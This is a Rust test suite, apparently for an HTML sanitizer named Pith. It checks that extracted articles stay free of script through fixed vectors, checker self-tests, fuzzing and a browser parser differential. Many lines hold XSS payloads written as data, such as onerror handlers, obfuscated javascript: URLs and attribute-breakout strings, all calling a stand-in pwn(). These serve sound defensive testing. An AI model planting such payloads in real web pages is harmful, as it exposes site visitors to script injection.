    problems.extend(md_problems);
    problems.extend(round_trip_problems(html, text));
    if text.contains('\0') || md.contains('\0') || html.contains('\0') {
        problems.push("NUL character in the output".into());
    }
    if let Some(flags) = flags {
        if flags & SHOWS == 0 {
            if text.contains("pwn(") {
                problems.push("payload in the text".into());
            }
            if md_visible.contains("pwn(") {
                problems.push("payload in the Markdown text".into());
            }
            // Link destinations are judged by their scheme above: an https URL whose path
            // holds the word "javascript:" (a percent-encoded RLO before it) is harmless.
            if md_visible.to_ascii_lowercase().contains("javascript:") {
                problems.push("javascript: in the Markdown text".into());
            }
        }
    }
    problems
}

/// The HTML read back by Pith's own parser and sanitized again gives the same text: nothing
/// the output says is lost or changed by a parse (a newline after `<pre>`, a split paragraph).
fn round_trip_problems(html: &str, text: &str) -> Vec<String> {
    let dom = pith::dom::parse(html);
    let Some(body) = dom.body() else { return vec!["the output re-parses without a body".into()] };
    let again = pith::render::Clean::new(&dom, body).text();
    if again == text {
        return Vec::new();
    }
    let i = again.chars().zip(text.chars()).take_while(|(a, b)| a == b).count();
    let around = |s: &str| s.chars().skip(i.saturating_sub(30)).take(60).collect::<String>();
    vec![format!("re-parsed output gives other text at char {i}: {:?} vs {:?}", around(&again), around(text))]
}

fn run_placed(html: &str, placement: Placement) -> Result<Article, pith::Error> {
    match placement {
        Placement::NoUrl => extract(html, &Options::default()),
        _ => run(html),
    }
}

fn check_vector(v: &Vector, placement: Placement) -> Vec<String> {
    let html = page(&v.html, placement);
    let a = match run_placed(&html, placement) {
        Ok(a) => a,
        Err(e) => return vec![format!("extract failed: {e}")],
    };
    let mut problems = article_problems(&a, Some(v.flags));
    // The vector must land inside the article, or the checks above prove nothing.
    let text = collapse(a.text.as_deref().unwrap_or(""));
    if !text.contains(MARK_BEFORE) {
        problems.push("the paragraph before the vector is not in the article".into());
    }
    let after = match placement {
        Placement::Block | Placement::NoUrl => MARK_AFTER_BLOCK,
        Placement::Inline => MARK_AFTER_INLINE,
    };
    if v.flags & SWALLOWS == 0 && !text.contains(after) {
        problems.push("the text after the vector is not in the article".into());
    }
    if !problems.is_empty() {
        // Show where the vector landed in the output.
        let out = a.content_html.as_deref().unwrap_or("");
        let at = out.find("The last obstacle").unwrap_or(0);
        let end = (at..=out.len().min(at + 900)).rev().find(|&i| out.is_char_boundary(i)).unwrap_or(at);
        problems.push(format!("output around the vector: {}", &out[at..end]));
    }
    problems
}

fn check_corpus(placement: Placement) {
    let mut failures = Vec::new();
    for v in corpus() {
        let problems = check_vector(&v, placement);
        if !problems.is_empty() {
            failures.push(format!("{} ({placement:?}):\n    {}", v.name, problems.join("\n    ")));
        }
    }
    assert!(failures.is_empty(), "{} of {} vectors fail:\n{}", failures.len(), corpus().len(), failures.join("\n"));
}

#[test]
fn corpus_is_large_and_named_uniquely() {
    let c = corpus();
    assert!(c.len() >= 60, "only {} vectors", c.len());
    let mut names: Vec<&str> = c.iter().map(|v| v.name.as_str()).collect();
    names.sort();
    let n = names.len();
    names.dedup();
    assert_eq!(names.len(), n, "duplicate vector names");
}

/// Vectors sit past the first 4096 characters, which the binary-data check reads, so NUL
/// characters in a vector reach the sanitizer instead of failing the whole page.
#[test]
fn vectors_sit_past_the_binary_sniff_window() {
    for placement in [Placement::Block, Placement::Inline, Placement::NoUrl] {
        let p = page("VECTOR-HERE", placement);
        let at = p.find("VECTOR-HERE").unwrap();
        assert!(p[..at].chars().count() > 4096, "{placement:?}: vector at char {}", p[..at].chars().count());
        let a = run_placed(&page("<b>a\0b</b>", placement), placement).expect("a NUL late is not binary data");
        assert!(!a.text.unwrap().contains('\0'));
    }
}

#[test]
fn corpus_between_paragraphs() {
    check_corpus(Placement::Block);
}

#[test]
fn corpus_inside_a_sentence() {
    check_corpus(Placement::Inline);
}

#[test]
fn corpus_without_a_page_url() {
    check_corpus(Placement::NoUrl);
}

/// The page without a vector comes out whole: the marks are where the checks expect them.
#[test]
fn control_page_is_extracted_whole() {
    let a = run(&page("", Placement::Block)).expect("the control page extracts");
    let text = collapse(a.text.as_deref().unwrap());
    for mark in [MARK_BEFORE, MARK_AFTER_INLINE, MARK_AFTER_BLOCK, "the great oak wheel", "nobody was talking"] {
        assert!(text.contains(mark), "missing {mark:?}");
    }
    assert!(!text.contains("Ferry timetable"), "the related-links box is not the article");
    assert!(article_problems(&a, Some(PLAIN)).is_empty(), "{:?}", article_problems(&a, Some(PLAIN)));
}

/// Some vectors carry content that must survive defusing: the checks are not passing
/// merely because the sanitizer dropped everything.
#[test]
fn harmless_parts_of_vectors_survive() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        // (vector, must appear in content_html, must appear in text)
        ("<a href=\"javascript:pwn()\">js link</a>", &[], &["js link"]),
        ("<div onclick=\"pwn()\">A clickable remark about the mill.</div>", &[], &["A clickable remark"]),
        (
            "<img src=\"https://img.example/photo.jpg\" onload=\"pwn()\" alt=\"harbour\">",
            &["src=\"https://img.example/photo.jpg\"", "alt=\"harbour\""],
            &[],
        ),
        ("<a href=\"tel:+1-555-0100\">call us</a>", &["href=\"tel:+1-555-0100\""], &["call us"]),
        (
            "<a id=\"defaultView\" href=\"#defaultView\">self link</a>",
            &["id=\"pith-defaultView\"", "href=\"#pith-defaultView\""],
            &[],
        ),
        (
            "<details open ontoggle=pwn()><summary>More</summary>Hidden detail text.</details>",
            &["<details open=\"\">"],
            &["Hidden detail text."],
        ),
        (
            "<base href=\"javascript:pwn()//\"><a href=\"relative.html\">relative link</a>",
            &["relative.html\""],
            &["relative link"],
        ),
        ("<pre>&lt;/pre&gt;&lt;script&gt;pwn()&lt;/script&gt;</pre>", &["&lt;script&gt;"], &["<script>pwn()</script>"]),
        // What a browser would follow, written out as it reads it (found by the fuzzer: the
        // Markdown link kept the control characters as %01).
        (
            "<a href=\"\u{1}\u{1} https://ex\tample.org/a\nb\">padded link</a>",
            &["href=\"https://example.org/ab\""],
            &["padded link"],
        ),
    ];
    for (vector, in_html, in_text) in cases {
        let a = run(&page(vector, Placement::Block)).unwrap();
        let html = a.content_html.as_deref().unwrap();
        let text = a.text.as_deref().unwrap();
        for s in *in_html {
            assert!(html.contains(s), "{vector}: {s:?} missing from {}", &html[..html.len().min(3000)]);
        }
        for s in *in_text {
            assert!(text.contains(s), "{vector}: {s:?} missing from the text");
        }
    }
}

/// The checks themselves catch what they are meant to catch.
#[test]
fn checks_can_fail() {
    let bad = [
        "<img src=x onerror=pwn()>",
        "<p onclick=pwn()>x</p>",
        "<a href=\"java&#x09;script:pwn()\">x</a>",
        "<a href=\" JAVASCRIPT:pwn()\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<img src=\"data:image/svg+xml,x\">",
        "<a href=\"data:image/png;base64,AA\">x</a>",
        "<img src=\"https://a/b.png\" srcset=\"javascript:x 1x\">",
        "<svg><a href=\"https://a/\">x</a></svg>",
        "<math><mi>x</mi></math>",
        "<script>x</script>",
        "<style>p{}</style>",
        "<iframe></iframe>",
        "<form></form>",
        "<span>x</span>",
        "<p style=\"color:red\">x</p>",
        "<p id=\"location\">x</p>",
        "<a href=\"#location\">x</a>",
        "<blockquote cite=\"javascript:x\">q</blockquote>",
        "<p data-x=\"1\">x</p>",
        "<!-- c --><p>x</p>",
        "<p><p>nested</p></p>",
        "<table>text<tr><td>x</td></tr></table>",
        "<a href=\"https://a/\"><a href=\"https://b/\">x</a></a>",
        "<p>x</div>",
        "<p>unclosed",
    ];
    for b in bad {
        assert!(!html_problems(b).is_empty(), "checker passes {b:?}");
    }
    let good = "<h2 id=\"pith-a\">T</h2><p>Hi <a href=\"https://x.example/a?b=1&amp;c=2\">l</a> <a href=\"#pith-a\">up</a> \
                <a href=\"mailto:a@b.c\">m</a><img src=\"data:image/png;base64,AA\" alt=\"\"></p>\
                <pre class=\"language-rust\"><code>fn x() {}</code></pre><table><tbody><tr><td>1</td></tr></tbody></table>";
    assert_eq!(html_problems(good), Vec::<String>::new());
    assert_eq!(ammonia_problems(good), Vec::<String>::new());
    for b in ["<p data-x=\"1\">x</p>", "<p hidden=\"\">x</p>", "<a href=\"javascript:x\">x</a>", "<p onclick=x>x</p>"] {
        assert!(!ammonia_problems(b).is_empty(), "ammonia comparison passes {b:?}");
    }
    for b in [
        "<script>pwn()</script>\n",
        "text <img src=x onerror=pwn()> more\n",
        "[x](javascript:pwn())\n",
        "[x]( JavaScript:pwn())\n",
        "![a](data:text/html,x)\n",
        "![a](data:image/svg+xml,x)\n",
        "<javascript:pwn()>\n",
        "![<script>pwn()</script>](https://a/b.png)\n",
    ] {
        assert!(!markdown_problems(b).0.is_empty(), "Markdown check passes {b:?}");
    }
    for g in
        ["\\<script> in prose\n", "`<script>` in code\n", "```\n<script>\n```\n", "![a](data:image/png;base64,AA)\n"]
    {
        assert_eq!(markdown_problems(g).0, Vec::<String>::new(), "{g:?}");
    }
    assert!(!round_trip_problems("<pre>\nx</pre>", "\nx").is_empty(), "round trip misses a lost newline");
    assert!(round_trip_problems("<pre>\n\nx</pre>", "\nx").is_empty());
    assert!(url_problem("\u{1}\u{1f} jav\tascript:x", false).is_some());
    assert!(url_problem("/path/with:colon", false).is_none());
    assert!(url_problem(":", false).is_none() && url_problem(":x", false).is_none());
    assert!(url_problem("data:image/png;base64,AA", false).is_some());
}

/// Trees that earlier stages can leave (a table renamed to a div around its rows, content
/// flattened into a row at the depth limit, a div turned paragraph around a heading) come out
/// of the sanitizer as markup a parser reads back as the same tree, with the text kept.
#[test]
fn sanitizer_writes_trees_a_parser_reads_back_unchanged() {
    use pith::dom::{Dom, LocalName, NodeId};
    type Build = fn(&mut Dom, NodeId);
    fn el(d: &mut Dom, parent: NodeId, name: &str) -> NodeId {
        let e = d.create_element(LocalName::from(name), Vec::new());
        d.append(parent, e);
        e
    }
    fn tx(d: &mut Dom, parent: NodeId, t: &str) {
        let t = d.create_text(t);
        d.append(parent, t);
    }
    let cases: &[(&str, Build)] = &[
        ("rows in a div", |d, r| {
            let div = el(d, r, "div");
            let tb = el(d, div, "tbody");
            let tr = el(d, tb, "tr");
            let td = el(d, tr, "td");
            tx(d, td, "cell one");
        }),
        ("text straight in a table", |d, r| {
            let t = el(d, r, "table");
            tx(d, t, "loose text");
            let tr = el(d, t, "tr");
            tx(d, tr, "row text");
            let td = el(d, tr, "td");
            tx(d, td, "cell two");
        }),
        ("cells straight in a section", |d, r| {
            let t = el(d, r, "table");
            let tb = el(d, t, "tbody");
            let td = el(d, tb, "td");
            tx(d, td, "cell three");
            let p = el(d, tb, "p");
            tx(d, p, "para in tbody");
        }),
        ("a table in a row", |d, r| {
            let t = el(d, r, "table");
            let tr = el(d, t, "tr");
            let inner = el(d, tr, "table");
            let itr = el(d, inner, "tr");
            let itd = el(d, itr, "td");
            tx(d, itd, "inner cell");
            let col = el(d, tr, "col");
            let _ = col;
        }),
        ("stray caption and cell", |d, r| {
            let c = el(d, r, "caption");
            tx(d, c, "stray caption");
            let td = el(d, r, "td");
            tx(d, td, "stray cell");
        }),
        ("heading in a paragraph", |d, r| {
            let p = el(d, r, "p");
            tx(d, p, "lead ");
            let h = el(d, p, "h2");
            tx(d, h, "heading words");
        }),
        ("link in a link", |d, r| {
            let a = el(d, r, "a");
            let b = el(d, a, "b");
            let a2 = el(d, b, "a");
            tx(d, a2, "inner link");
        }),
        ("heading in a heading", |d, r| {
            let h = el(d, r, "h2");
            let h3 = el(d, h, "h3");
            tx(d, h3, "sub heading");
        }),
        ("item in an item", |d, r| {
            let ul = el(d, r, "ul");
            let li = el(d, ul, "li");
            let div = el(d, li, "div");
            let li2 = el(d, div, "li");
            tx(d, li2, "inner item");
            let dl = el(d, r, "dl");
            let dd = el(d, dl, "dd");
            let em = el(d, dd, "em");
            let dt = el(d, em, "dt");
            tx(d, dt, "inner term");
        }),
        ("newlines opening a pre", |d, r| {
            let pre = el(d, r, "pre");
            tx(d, pre, "");
            tx(d, pre, "\n\nindented code");
        }),
    ];
    for (name, build) in cases {
        let mut dom = Dom::new();
        let root = dom.root();
        build(&mut dom, root);
        let words: String = dom.descendants(root).filter_map(|n| dom.text(n)).collect::<Vec<_>>().join(" ");
        let clean = pith::render::Clean::new(&dom, root);
        let html = clean.html();
        let problems = html_problems(&html);
        assert!(problems.is_empty(), "{name}: {html}\n{problems:#?}");
        let again = collapse(
            &pith::render::Clean::new(&pith::dom::parse(&html), pith::dom::parse(&html).body().unwrap()).text(),
        );
        for w in words.split_whitespace() {
            assert!(collapse(&clean.text()).contains(w) && again.contains(w), "{name}: {w:?} lost: {html}");
        }
        assert!(
            round_trip_problems(&html, &clean.text()).is_empty(),
            "{name}: {:?}",
            round_trip_problems(&html, &clean.text())
        );
    }
}

/// The fixture pages (all written for this project) come out clean as well.
#[test]
fn fixture_pages_are_clean() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut n = 0;
    for dir in std::fs::read_dir(root).unwrap().flatten() {
        let src = dir.path().join("source.html");
        let Ok(html) = std::fs::read_to_string(&src) else { continue };
        let Ok(a) = run(&html) else { continue };
        let problems = article_problems(&a, None);
        assert!(problems.is_empty(), "{}: {problems:#?}", src.display());
        n += 1;
    }
    assert!(n >= 5, "only {n} fixture pages extracted");
}

// --- random splicing ---

fn soup_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zA-Z ,.]{0,40}",
        Just("&".to_string()),
        Just("&lt;".to_string()),
        Just("&#x6A;".to_string()),
        Just("<".to_string()),
        Just(">".to_string()),
        Just("\"".to_string()),
        Just("</".to_string()),
        Just("<!--".to_string()),
        Just("-->".to_string()),
        Just("<![CDATA[".to_string()),
        Just("]]>".to_string()),
        Just("\n".to_string()),
    ]
}

fn soup_attr() -> impl Strategy<Value = String> {
    let names = prop::sample::select(vec![
        "onerror",
        "onclick",
        "OnLoad",
        "href",
        "src",
        "srcset",
        "style",
        "id",
        "name",
        "xlink:href",
        "formaction",
        "action",
        "srcdoc",
        "title",
        "class",
        "background",
        "poster",
        "cite",
        "alt",
        "data-x",
        "open",
        "is",
    ]);
    let values = prop::sample::select(vec![
        "pwn()",
        "javascript:pwn()",
        "&#106;avascript:pwn()",
        " java\tscript:pwn()",
        "x",
        "https://ok.example/",
        "data:text/html,<script>pwn()</script>",
        "data:image/png;base64,AA",
        "\"><img src=x onerror=pwn()>",
        "</style><img src=x onerror=pwn()>",
        "location",
        "#frag",
        "",
        "expression(pwn())",
    ]);
    (names, values, 0..3u8).prop_map(|(n, v, q)| match q {
        0 => format!(" {n}=\"{}\"", v.replace('"', "&quot;")),
        1 => format!(" {n}='{}'", v.replace('\'', "&#39;")),
        _ => format!(" {n}={}", v.replace([' ', '>', '"', '\''], "")),
    })
}

fn soup() -> impl Strategy<Value = String> {
    let vectors: Vec<String> = CORPUS.iter().map(|v| v.1.to_string()).collect();
    let leaf = prop_oneof![soup_text(), prop::sample::select(vectors)];
    let tags = prop::sample::select(vec![
        "div",
        "p",
        "span",
        "a",
        "b",
        "i",
        "em",
        "table",
        "tr",
        "td",
        "ul",
        "li",
        "svg",
        "math",
        "mtext",
        "mglyph",
        "mi",
        "style",
        "script",
        "noscript",
        "template",
        "textarea",
        "title",
        "xmp",
        "iframe",
        "form",
        "select",
        "option",
        "object",
        "foreignObject",
        "desc",
        "annotation-xml",
        "img",
        "image",
        "h2",
        "blockquote",
        "figure",
        "details",
        "summary",
        "font",
        "x-y",
        "noembed",
        "listing",
        "frameset",
        "body",
        "html",
        "head",
        "base",
    ]);
    leaf.prop_recursive(4, 48, 6, move |inner| {
        (tags.clone(), prop::collection::vec(soup_attr(), 0..4), prop::collection::vec(inner, 0..5), 0..4u8).prop_map(
            |(tag, attrs, children, close)| {
                let mut s = format!("<{tag}{}>", attrs.concat());
                s.push_str(&children.concat());
                match close {
                    0 => {}
                    1 => s.push_str(&format!("</{}>", tag.to_uppercase())),
                    _ => s.push_str(&format!("</{tag}>")),
                }
                s
            },
        )
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn random_vectors_and_soup_stay_safe(
        parts in prop::collection::vec(soup(), 1..5),
        placement in prop::sample::select(vec![Placement::Block, Placement::Inline, Placement::NoUrl]),
    ) {
        let html = page(&parts.concat(), placement);
        // Random soup may open a raw-text element that hides the whole rest of the page,
        // leaving nothing: that is a fine answer. Any article returned must be clean.
        if let Ok(a) = run_placed(&html, placement) {
            let problems = article_problems(&a, None);
            prop_assert!(
                problems.is_empty(),
                "{:#?}\ninput vector: {}\noutput: {}",
                problems,
                parts.concat(),
                a.content_html.as_deref().unwrap_or("")
            );
        }
    }
}

// --- the browser's parser differential ---

/// The cases of the browser's parser differential, written as JSON lines for
/// tests/browser/differential.test.mjs (which runs this test and reads the file): Pith's
/// sanitized HTML for every attack-corpus vector in each placement, every fixture, every page
/// in the directories of `PITH_DIFFERENTIAL_PAGES` (the browser's hostile corpus, the fuzz
/// corpus), and `PITH_DIFFERENTIAL_GENERATED` pages of random soup (default 3,000), each with
/// the tree html5ever builds from it (`invariants::body_events`). The browser parses the same
/// HTML with `DOMParser` and must build the same tree: a parser differential is how a
/// sanitizer's output turns into something else in the reader (mutation XSS).
#[test]
#[ignore = "run by tests/browser/differential.test.mjs, which compares its output in Chromium"]
fn differential_cases() {
    use proptest::strategy::ValueTree;
    use std::io::Write;
    let out = std::env::var("PITH_DIFFERENTIAL_OUT").expect("PITH_DIFFERENTIAL_OUT: where to write the cases");
    let generated: usize = std::env::var("PITH_DIFFERENTIAL_GENERATED").ok().and_then(|n| n.parse().ok()).unwrap_or(3000);
    let mut pages: Vec<(String, String, Placement)> = Vec::new();
    for v in corpus() {
        for placement in [Placement::Block, Placement::Inline, Placement::NoUrl] {
            pages.push((format!("corpus/{}/{placement:?}", v.name), page(&v.html, placement), placement));
        }
    }
    let fixtures = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut dirs: Vec<std::path::PathBuf> = vec![fixtures];
    dirs.extend(std::env::var("PITH_DIFFERENTIAL_PAGES").unwrap_or_default().split(':').filter(|d| !d.is_empty()).map(Into::into));
    for dir in dirs {
        let mut files: Vec<std::path::PathBuf> = Vec::new();
        let mut todo = vec![dir.clone()];
        while let Some(d) = todo.pop() {
            for e in std::fs::read_dir(&d).unwrap_or_else(|e| panic!("{}: {e}", d.display())).flatten() {
                let p = e.path();
                if p.is_dir() {
                    todo.push(p);
                } else if !p.extension().is_some_and(|x| x == "json" || x == "snap" || x == "md") {
                    files.push(p);
                }
            }
        }
        files.sort();
        for f in files {
            let html = String::from_utf8_lossy(&std::fs::read(&f).expect("a readable page")).into_owned();
            pages.push((f.display().to_string(), html, Placement::Block));
        }
    }
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let strategy = (
        prop::collection::vec(soup(), 1..5),
        prop::sample::select(vec![Placement::Block, Placement::Inline, Placement::NoUrl]),
    );
    for i in 0..generated {
        let (parts, placement) = strategy.new_tree(&mut runner).expect("a generated page").current();
        pages.push((format!("soup/{i}"), page(&parts.concat(), placement), placement));
    }
    let mut file = std::io::BufWriter::new(std::fs::File::create(&out).expect("PITH_DIFFERENTIAL_OUT is writable"));
    let (mut written, mut refused) = (0, 0);
    for (name, html, placement) in &pages {
        let Ok(a) = run_placed(html, *placement) else {
            refused += 1;
            continue;
        };
        let content = a.content_html.unwrap_or_default();
        let tree: Vec<serde_json::Value> = invariants::body_events(&content)
            .into_iter()
            .map(|ev| match ev {
                invariants::Ev::Open(tag, attrs) => serde_json::json!(["open", tag, attrs]),
                invariants::Ev::Close(tag) => serde_json::json!(["close", tag]),
                invariants::Ev::Text(t) => serde_json::json!(["text", t]),
                invariants::Ev::Other(_) => serde_json::json!(["other"]),
            })
            .collect();
        let line = serde_json::json!({ "name": name, "html": content, "tree": tree });
        writeln!(file, "{line}").expect("the cases file is writable");
        written += 1;
    }
    file.flush().expect("the cases file is writable");
    println!("differential: {written} cases written to {out} ({refused} pages gave no article)");
    assert!(written >= pages.len() / 2, "only {written} of {} pages gave an article", pages.len());
}
